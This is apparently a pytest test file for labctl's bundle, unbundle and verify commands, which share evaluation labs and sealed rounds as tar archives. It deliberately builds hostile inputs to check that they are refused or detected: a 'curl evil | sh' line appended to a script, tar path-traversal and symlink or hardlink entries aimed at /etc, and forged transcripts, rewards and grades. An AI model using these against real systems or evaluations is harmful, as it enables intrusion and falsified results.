"""`labctl bundle` / `unbundle` / `verify round.tar`: a lab and a round shared as one deterministic
file; a bundle that does not match its own index, or would write outside its directory, is refused;
a round bundle verifies on a machine with no labctl state and no network, and every tampering of
tests/round/test_verify.py, applied inside the tar, still fails it.

No Docker: the round is the sealed smoke round of tests/round/test_seal.py with runs faked as the runner
writes them, unsealed for real.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from labctl.gguf.store import Store
from labctl.gguf.tiny import TinyModelParams, write_tiny_gguf
from labctl.lock.hub import lock_generated, lock_local
from labctl.lock.lockfile import lock_path, read_lock, write_lock
from labctl.lock.resolve import spec_sha256
from labctl.round.bundle import INDEX, Index, Source, hash_sources, pack, read_index, scan
from labctl.round.layout import run_dir
from labctl.spec.lab import LocalContestant
from labctl.spec.load import load_lab
from labctl.treehash import tree_sha256
from tests.helpers import ROOT, run_cli
from tests.round.test_seal import CHECKS, LOCAL, NOP, ORACLE, envelopes, make_lab, sealed_lab  # noqa: F401
from tests.round.test_verify import round_dir  # noqa: F401


def real_lock(lab: Path, store: Path) -> None:
    """Replace the fixture lock's made-up model hash with the generated model's real one, so
    `labctl lock --offline` (which regenerates it) can pass."""
    loaded = load_lab(lab)
    lock = read_lock(lock_path(lab))
    [c] = [c for c in loaded.lab.contestants if isinstance(c, LocalContestant)]
    assert c.model.generate is not None
    model = lock_generated(c.model.generate, Store(store), contestant=c.id)
    write_lock(lock_path(lab), lock.model_copy(update={"models": {c.id: model}}))


def bundle(src: Path, out: Path, *extra: str | Path) -> dict:
    code, stdout, stderr = run_cli("bundle", src, "-o", out, "--json", *extra)
    assert code == 0, stderr
    data = json.loads(stdout)
    assert data["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    return data


def members(tar: Path) -> list[tarfile.TarInfo]:
    with tarfile.open(tar) as t:
        return t.getmembers()


# --- a lab ---------------------------------------------------------------------------------------


def test_lab_round_trip_passes_the_offline_lock_check(tmp_path: Path) -> None:
    lab = make_lab(tmp_path / "a")
    real_lock(lab, tmp_path / "store")
    made = bundle(lab, tmp_path / "lab.tar")
    assert made["kind"] == "lab" and made["lab"] == "labs/smoke.yaml"
    names = [m.name for m in members(tmp_path / "lab.tar")]
    assert names[0] == INDEX and names[1:] == sorted(names[1:])
    assert "labs/smoke.lock" in names and "tasks/smoke-hello/tests/test.sh" in names
    assert not any(n.startswith("tasks/tag-manager") for n in names)  # only the lab's own task

    code, stdout, stderr = run_cli("unbundle", tmp_path / "lab.tar", tmp_path / "b", "--json")
    assert code == 0, stderr
    got = Path(json.loads(stdout)["lab"])
    assert got == tmp_path / "b" / "labs" / "smoke.yaml"
    assert got.read_bytes() == lab.read_bytes()
    assert lock_path(got).read_bytes() == lock_path(lab).read_bytes()
    task = Path("tasks", "smoke-hello")
    assert tree_sha256(tmp_path / "b" / task) == tree_sha256(tmp_path / "a" / task)
    assert os.access(tmp_path / "b/tasks/smoke-hello/tests/test.sh", os.X_OK)  # the x bit is content

    code, stdout, stderr = run_cli("lock", got, "--offline", "--store", tmp_path / "other-store", "--json")
    assert code == 0, stdout + stderr
    checked = json.loads(stdout)
    assert checked["ok"] and {"lab", "task", f"models.{LOCAL}"} <= set(checked["verified"])


def test_same_inputs_same_bytes(tmp_path: Path) -> None:
    """Another copy of the same lab — other directory, mtimes, owners' umask, group/other mode bits —
    gives a byte-identical bundle with the same sha256."""
    one = make_lab(tmp_path / "one")
    shutil.copytree(tmp_path / "one", tmp_path / "two", copy_function=shutil.copy)
    two = tmp_path / "two" / "labs" / "smoke.yaml"
    for p in (tmp_path / "two").rglob("*"):
        if p.is_file():
            os.utime(p, (1_000_000, 1_000_000))
            p.chmod(p.stat().st_mode & 0o700)  # only the owner's bits: group/other are not content
    a = bundle(one, tmp_path / "a.tar")
    b = bundle(two, tmp_path / "b.tar")
    assert a["sha256"] == b["sha256"]
    assert (tmp_path / "a.tar").read_bytes() == (tmp_path / "b.tar").read_bytes()
    for m in members(tmp_path / "a.tar"):
        assert (m.mtime, m.uid, m.gid, m.uname, m.gname) == (0, 0, 0, "", "")
        assert m.mode in (0o644, 0o755)
    (tmp_path / "one" / "tasks" / "smoke-hello" / "instruction.md").write_text("changed\n")
    code, _, stderr = run_cli("bundle", one, "-o", tmp_path / "c.tar")
    assert code == 1 and "task tree sha256" in stderr and not (tmp_path / "c.tar").exists()


def test_lab_bundle_carries_local_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A local GGUF, a relative CA bundle and a profile from $LABCTL_PROFILE_PATH travel with the lab;
    an absolute CA bundle (this machine's) is named as not carried."""
    make_lab(tmp_path / "a")
    base = tmp_path / "a"
    write_tiny_gguf(base / "models" / "mine.gguf", TinyModelParams(seed=3))
    (base / "labs" / "certs").mkdir()
    (base / "labs" / "certs" / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    elsewhere = tmp_path / "my-profiles"
    elsewhere.mkdir()
    (elsewhere / "tiny-box.yaml").write_text((ROOT / "labctl/spec/builtin_profiles/cpu.yaml").read_text())
    monkeypatch.setenv("LABCTL_PROFILE_PATH", str(elsewhere))
    lab = base / "labs" / "smoke.yaml"
    text = lab.read_text().replace("profile: cpu", "profile: tiny-box")
    text = text.replace("      generate: {seed: 7}", "      path: ../models/mine.gguf")
    text = text.replace("  cpu_image: debian:bookworm-slim",
                        "  cpu_image: debian:bookworm-slim\n\nbuild:\n  ca_bundle: certs/ca.pem")
    lab.write_text(text)
    loaded = load_lab(lab)
    lock = read_lock(lock_path(lab))
    model = lock_local(base / "models" / "mine.gguf", contestant=LOCAL, as_written="../models/mine.gguf")
    write_lock(lock_path(lab), lock.model_copy(update={"spec_sha256": spec_sha256(loaded),
                                                       "models": {LOCAL: model}}))
    bundle(lab, tmp_path / "lab.tar")
    names = {m.name for m in members(tmp_path / "lab.tar")}
    assert {"models/mine.gguf", "labs/certs/ca.pem", "labs/profiles/tiny-box.yaml"} <= names

    monkeypatch.delenv("LABCTL_PROFILE_PATH")  # elsewhere: only what the bundle brings
    code, _, stderr = run_cli("unbundle", tmp_path / "lab.tar", tmp_path / "b")
    assert code == 0, stderr
    code, stdout, stderr = run_cli("lock", tmp_path / "b/labs/smoke.yaml", "--offline", "--json")
    assert code == 0, stdout + stderr
    assert f"models.{LOCAL}" in json.loads(stdout)["verified"]

    monkeypatch.setenv("LABCTL_PROFILE_PATH", str(elsewhere))
    lab.write_text(text.replace("ca_bundle: certs/ca.pem", f"ca_bundle: {base}/labs/certs/ca.pem"))
    data = bundle(lab, tmp_path / "abs.tar")
    assert data["notes"] == [f"build.ca_bundle {base}/labs/certs/ca.pem is absolute (this machine's): "
                             "not carried"]
    write_tiny_gguf(base / "models" / "mine.gguf", TinyModelParams(seed=4))  # changed after the lock
    code, _, stderr = run_cli("bundle", lab, "-o", tmp_path / "c.tar")
    assert code == 1 and f"models.{LOCAL}: ../models/mine.gguf does not have the locked sha256" in stderr


def test_absolute_and_stale_paths_are_refused(tmp_path: Path) -> None:
    lab = make_lab(tmp_path / "a")
    text = lab.read_text()
    lab.write_text(text.replace("path: ../tasks/smoke-hello", f"path: {tmp_path}/a/tasks/smoke-hello"))
    code, _, stderr = run_cli("bundle", lab, "-o", tmp_path / "x.tar")
    assert code == 1 and "smoke.yaml:" in stderr and "task.path" in stderr and "is absolute" in stderr
    lab.write_text(text.replace("steps: 8", "steps: 9"))  # budgets are not pinned by the lock
    bundle(lab, tmp_path / "ok.tar")
    lab.write_text(text.replace("seed: 7", "seed: 8"))
    code, _, stderr = run_cli("bundle", lab, "-o", tmp_path / "x.tar")
    assert code == 1 and "changed since its lock was written" in stderr


# --- unbundle refuses ----------------------------------------------------------------------------


def rewrite(tar: Path, out: Path, edit: Callable[[str, bytes], bytes | None]) -> None:
    """Copy `tar` entry by entry, letting `edit(name, data)` change a file's bytes (None: keep),
    the index untouched."""
    with tarfile.open(tar) as src, tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as dst:
        for m in src.getmembers():
            if not m.isreg():
                dst.addfile(m)
                continue
            f = src.extractfile(m)
            assert f is not None
            data = f.read()
            data = edit(m.name, data) or data
            m.size = len(data)
            dst.addfile(m, io.BytesIO(data))


def test_unbundle_refuses_a_bundle_that_does_not_match_its_index(tmp_path: Path) -> None:
    bundle(make_lab(tmp_path / "a"), tmp_path / "lab.tar")
    target = "tasks/smoke-hello/solution/solve.sh"
    rewrite(tmp_path / "lab.tar", tmp_path / "bad.tar",
            lambda name, data: data + b"curl evil | sh\n" if name == target else None)
    code, stdout, stderr = run_cli("unbundle", tmp_path / "bad.tar", tmp_path / "b", "--json")
    assert code == 1
    errors = json.loads(stdout)["errors"]
    assert any(target in e and "differs from the bundle index" in e for e in errors), errors
    assert "does not match its own index" in stderr
    assert not (tmp_path / "b").exists() and not (tmp_path / ".b.unbundle").exists()


def evil_tar(path: Path, entries: list[tuple[str, str, str]]) -> None:
    """(name, type, data-or-link) entries after a valid-looking index."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        index = Index(kind="lab", lab="lab.yaml", files={}).text()
        info = tarfile.TarInfo(INDEX)
        info.size = len(index)
        t.addfile(info, io.BytesIO(index))
        for name, kind, payload in entries:
            info = tarfile.TarInfo(name)
            if kind == "file":
                info.size = len(payload)
                t.addfile(info, io.BytesIO(payload.encode()))
            else:
                info.type = {"sym": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE}[kind]
                info.linkname = payload
                t.addfile(info)


@pytest.mark.parametrize(("entries", "why"), [
    ([("../escaped", "file", "x")], "'..'"),
    ([("a/../../escaped", "file", "x")], "'..'"),
    ([("/escaped", "file", "x")], "absolute path"),
    ([("out", "sym", "../../escaped")], "points outside the bundle"),
    ([("out", "sym", "/etc")], "points outside the bundle"),
    ([("d", "sym", "sub"), ("d/escaped", "file", "x")], "lies below a symlink"),
    ([("h", "hard", "/etc/passwd")], "not a file, directory or symlink"),
    ([("p", "fifo", "")], "not a file, directory or symlink"),
    ([("twice", "file", "a"), ("twice", "file", "b")], "appears twice"),
])
def test_unbundle_refuses_unsafe_entries(tmp_path: Path, entries: list, why: str) -> None:
    evil_tar(tmp_path / "evil.tar", entries)
    code, _, stderr = run_cli("unbundle", tmp_path / "evil.tar", tmp_path / "x" / "b")
    assert code == 1 and why in stderr and "refused" in stderr
    assert not (tmp_path / "x" / "b").exists() and not (tmp_path / "escaped").exists()
    assert not (tmp_path / "x" / "escaped").exists()


def test_an_index_naming_a_lab_outside_is_refused(tmp_path: Path) -> None:
    bundle(make_lab(tmp_path / "a"), tmp_path / "lab.tar")

    def outside(name: str, data: bytes) -> bytes | None:
        return data.replace(b'"labs/smoke.yaml"', b'"../../etc/passwd"') if name == INDEX else None

    rewrite(tmp_path / "lab.tar", tmp_path / "bad.tar", outside)
    code, _, stderr = run_cli("unbundle", tmp_path / "bad.tar", tmp_path / "b")
    assert code == 1 and "is not a bundle index" in stderr and "'..'" in stderr
    assert not (tmp_path / "b").exists()
    code, stdout, _ = run_cli("verify", tmp_path / "bad.tar", "--json")
    assert code == 1 and "is not a bundle index" in stdout


# --- a round -------------------------------------------------------------------------------------


def lab_of(rd: Path) -> Path:
    return rd.parent.parent / "lab" / "labs" / "smoke.yaml"


def offline_verify(tar: Path, tmp: Path) -> tuple[int, dict, str]:
    """`labctl verify TAR --json` in a fresh process as a third party would run it: empty HOME and
    XDG dirs (no store, no envelopes, no profiles), no Docker, any network through a dead proxy."""
    home = tmp / "stranger"
    for d in ("home", "config", "cache", "data", "work"):
        (home / d).mkdir(parents=True, exist_ok=True)
    dead = "http://127.0.0.1:9"
    env = {"PATH": os.environ["PATH"], "HOME": str(home / "home"), "XDG_CONFIG_HOME": str(home / "config"),
           "XDG_CACHE_HOME": str(home / "cache"), "XDG_DATA_HOME": str(home / "data"),
           "HTTP_PROXY": dead, "HTTPS_PROXY": dead, "http_proxy": dead, "https_proxy": dead,
           "HF_HUB_OFFLINE": "1", "DOCKER_HOST": "unix:///nonexistent/docker.sock", "COLUMNS": "200"}
    done = subprocess.run([sys.executable, "-m", "labctl", "verify", str(tar), "--json"], cwd=home / "work",
                          env=env, capture_output=True, text=True, timeout=120)
    wrote = [p for d in ("home", "config", "cache", "data") for p in (home / d).iterdir()]
    assert wrote == [], "verify wrote state"
    return done.returncode, json.loads(done.stdout), done.stderr


def test_round_bundle_verifies_offline_elsewhere(round_dir: Path, tmp_path: Path) -> None:  # noqa: F811
    made = bundle(round_dir, tmp_path / "round.tar", "--lab", lab_of(round_dir))
    assert (made["kind"], made["round"], made["lab"]) == ("round", round_dir.name, "lab/labs/smoke.yaml")
    again = bundle(round_dir, tmp_path / "again.tar", "--lab", lab_of(round_dir))
    assert again["sha256"] == made["sha256"]
    names = {m.name for m in members(tmp_path / "round.tar")}
    rd = f"round/{round_dir.name}"
    assert {f"{rd}/sealed.json", f"{rd}/unsealed.json", f"{rd}/manifest.json", f"{rd}/lab.lock",
            "lab/labctl-bundle.json", "lab/labs/smoke.yaml", "lab/tasks/smoke-hello/task.toml"} <= names
    assert all(not n.startswith("private") for n in names)  # never the envelope

    shutil.rmtree(round_dir.parent.parent / "lab")  # the original lab is gone: the bundle is enough
    code, data, stderr = offline_verify(tmp_path / "round.tar", tmp_path)
    assert code == 0, (data, stderr)
    assert data["ok"] and data["problems"] == [] and data["notes"] == []
    c = data["checked"]
    assert c["seal"] and c["lock"] and c["lab"] and c["runs"] == 3 and c["bundle_files"] == len(names) - 1

    code, stdout, _ = run_cli("unbundle", tmp_path / "round.tar", tmp_path / "u", "--json")
    assert code == 0 and json.loads(stdout)["round"] == round_dir.name
    code, _, stderr = run_cli("verify", tmp_path / "u" / "round" / round_dir.name)
    assert code == 0, stderr


def test_round_bundle_needs_the_lab_it_ran(round_dir: Path, tmp_path: Path) -> None:  # noqa: F811
    lab = lab_of(round_dir)
    code, _, stderr = run_cli("bundle", round_dir, "-o", tmp_path / "r.tar")
    assert code == 1 and "pass --lab PATH" in stderr
    (lab.parent.parent / "tasks" / "smoke-hello" / "instruction.md").write_text("another task\n")
    code, _, stderr = run_cli("bundle", round_dir, "-o", tmp_path / "r.tar", "--lab", lab)
    assert code == 1 and "the lab as this round ran it:" in stderr and "task tree sha256" in stderr
    other = lab.with_name("other.yaml")
    other.write_text(lab.read_text() + "\n")
    code, _, stderr = run_cli("bundle", round_dir, "-o", tmp_path / "r.tar", "--lab", other)
    assert code == 1 and "is not the lab this round ran" in stderr


# --- tampering inside the bundle -----------------------------------------------------------------


def run_of(rd: Path, contestant: str) -> str:
    return next(r for r, s in json.loads((rd / "unsealed.json").read_text())["mapping"].items()
                if s["contestant"] == contestant)


def edit_json(path: Path, change: Callable[[dict], None]) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def _swap(data: dict) -> None:
    a, b = sorted(data["mapping"])[:2]
    data["mapping"][a], data["mapping"][b] = data["mapping"][b], data["mapping"][a]


def _salt(data: dict) -> None:
    data["salt"] = ("0" if data["salt"][0] != "0" else "1") + data["salt"][1:]


Tamper = Callable[[Path, Path], None]
"""(unpacked bundle root, its round directory) → change something."""

TAMPERS: dict[str, tuple[Tamper, str, str]] = {  # name → (tamper, where the problem ends, what it says)
    "edited transcript": (
        lambda root, rd: (run_dir(rd, run_of(rd, ORACLE)) / "transcript.jsonl").write_text("{}\n"),
        "transcript.jsonl", "changed: sha256"),
    "swapped run ids in the reveal": (
        lambda root, rd: edit_json(rd / "unsealed.json", _swap), "unsealed.json",
        "does not match the sealed commitment"),
    "changed salt": (
        lambda root, rd: edit_json(rd / "unsealed.json", _salt), "unsealed.json",
        "salt or mapping changed after the seal"),
    "edited reward": (
        lambda root, rd: (run_dir(rd, run_of(rd, ORACLE)) / "verifier" / "reward.json").write_text(
            json.dumps({"reward": 0, "checks": dict.fromkeys(CHECKS, False)})),
        "result.json", "outcome 'Complete' differs from 'Failed'"),
    "edited grade in result": (
        lambda root, rd: (run_dir(rd, run_of(rd, NOP)) / "result.json").write_text(
            (run_dir(rd, run_of(rd, NOP)) / "result.json").read_text().replace('"Failed"', '"Complete"')),
        "result.json", "outcome 'Complete' differs from 'Failed' re-derived"),
    "deleted run directory": (
        lambda root, rd: shutil.rmtree(run_dir(rd, run_of(rd, NOP))), "", "run directory is missing"),
    "changed lock": (
        lambda root, rd: (rd / "lab.lock").write_text(
            (rd / "lab.lock").read_text().replace("ab" * 32, "ba" * 32)),
        "lab.lock", "differs from sealed.json's lock_file_sha256"),
    "reformatted lock": (
        lambda root, rd: (rd / "lab.lock").write_text(json.dumps(json.loads((rd / "lab.lock").read_text()))),
        "lab.lock", "lock_file_sha256"),
    "added file": (
        lambda root, rd: (run_dir(rd, run_of(rd, ORACLE)) / "note.txt").write_text("hi"), "note.txt",
        "not in manifest.json"),
    "edited task in the lab": (
        lambda root, rd: (root / "lab/tasks/smoke-hello/tests/test.sh").write_text("echo pass\n"),
        "lab/labs/smoke.yaml", "task tree sha256"),
    "another lock in the lab": (
        lambda root, rd: (root / "lab/labs/smoke.lock").write_text(
            (root / "lab/labs/smoke.lock").read_text().replace("ef" * 32, "fe" * 32)),
        "lab/labs/smoke.lock", "differs from the round's lab.lock"),
}


def unpack_plain(tar: Path, dest: Path) -> Path:
    with tarfile.open(tar) as t:
        t.extractall(dest, filter="data")
    return dest


def repack(root: Path, out: Path) -> None:
    """A consistent tamperer: the lab's and the bundle's index recomputed over the changed content."""
    lab = root / "lab"
    inner = read_index(lab)
    files = hash_sources({rel: Source(path=lab / rel) for rel in scan(lab)})
    (lab / INDEX).write_bytes(inner.model_copy(update={"files": files}).text())
    old = read_index(root)
    sources = {rel: Source(path=root / rel) for rel in scan(root)}
    pack(out, old.model_copy(update={"files": hash_sources(sources)}), sources)


@pytest.mark.parametrize("case", sorted(TAMPERS))
def test_tampered_round_bundle_fails(round_dir: Path, tmp_path: Path, case: str) -> None:  # noqa: F811
    tamper, where, what = TAMPERS[case]
    bundle(round_dir, tmp_path / "round.tar", "--lab", lab_of(round_dir))
    root = unpack_plain(tmp_path / "round.tar", tmp_path / "x")
    tamper(root, root / "round" / round_dir.name)
    repack(root, tmp_path / "tampered.tar")
    code, data, _ = offline_verify(tmp_path / "tampered.tar", tmp_path)
    assert code == 1 and not data["ok"]
    assert any(p["where"].startswith(f"{tmp_path / 'tampered.tar'}:") and p["where"].endswith(where)
               and what in p["what"] for p in data["problems"]), data["problems"]
    assert not any("bundle index" in p["what"] for p in data["problems"])  # the index was made to agree
    code, stdout, stderr = run_cli("verify", tmp_path / "tampered.tar")
    assert code == 1 and what in stderr


def test_a_naive_tamper_also_breaks_the_index(round_dir: Path, tmp_path: Path) -> None:  # noqa: F811
    bundle(round_dir, tmp_path / "round.tar", "--lab", lab_of(round_dir))
    rid = next(iter(json.loads((round_dir / "unsealed.json").read_text())["mapping"]))
    target = f"round/{round_dir.name}/runs/{rid}/transcript.jsonl"
    rewrite(tmp_path / "round.tar", tmp_path / "t.tar", lambda n, d: b"{}\n" if n == target else None)
    code, data, _ = offline_verify(tmp_path / "t.tar", tmp_path)
    assert code == 1
    hits = [p for p in data["problems"] if p["where"].endswith(target)]
    assert {p["run"] for p in hits} == {rid}
    assert any("differs from the bundle index" in p["what"] for p in hits)
    assert any("changed: sha256" in p["what"] for p in hits)


def test_verify_says_a_lab_bundle_is_not_a_round(tmp_path: Path) -> None:
    bundle(make_lab(tmp_path / "a"), tmp_path / "lab.tar")
    code, stdout, _ = run_cli("verify", tmp_path / "lab.tar", "--json")
    assert code == 1 and "a lab bundle, not a round bundle" in stdout
